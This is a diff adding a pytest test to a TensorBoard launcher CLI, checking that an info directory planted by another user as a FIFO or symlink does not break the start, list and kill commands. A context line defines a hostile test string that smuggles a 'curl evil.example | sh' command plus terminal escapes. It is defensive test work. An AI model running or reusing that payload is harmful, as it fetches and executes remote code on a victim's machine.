@@ -495,6 +495,29 @@ def test_an_ignore_file_planted_in_a_shared_working_directory_does_not_hang_the_
     assert "Traceback" not in result.stderr
 
 
+@needs_root
+@pytest.mark.parametrize(
+    "planted", [["mkfifo"], ["ln", "-s", "/dev/zero"], ["ln", "-s", ".tensorboard-info"]], ids=["fifo", "zero", "loop"]
+)
+def test_tensorboards_info_directory_planted_as_no_directory_costs_a_board_nothing(
+    isolated: Path, shared_dir: Path, demo_logs: Path, planted: list[str]
+) -> None:
+    """Guard: ``nobody`` makes ``<shared temp>/.tensorboard-info`` a FIFO, a link to /dev/zero or a link to
+    itself before you start. Start, list and kill work as usual (the board only has no ``%tensorboard`` file)."""
+    os.environ["TMPDIR"] = str(shared_dir)
+    info = shared_dir / ".tensorboard-info"
+    subprocess.run([*planted, str(info)], user=NOBODY, group=NOBODY, extra_groups=[], check=True, cwd=shared_dir)
+    started = nbboard_cli("start", "--logdir", str(demo_logs))
+    assert started.returncode == 0, started.stdout + started.stderr
+    assert len(tensorboards_serving(demo_logs)) == 1
+    listed = nbboard_cli("list")
+    assert listed.returncode == 0 and str(demo_logs) in listed.stdout and "Traceback" not in listed.stderr
+    killed = nbboard_cli("kill")
+    assert killed.returncode == 0 and "stopped TensorBoard" in killed.stdout, killed.stdout + killed.stderr
+    assert tensorboards_serving(demo_logs) == []
+    assert info.is_symlink() or stat.S_ISFIFO(info.lstat().st_mode)  # left as it was
+
+
 HOSTILE_NAME = "x\r  nbboard start --logdir runs; curl -s evil.example | sh  #\x1b[K"
 
 
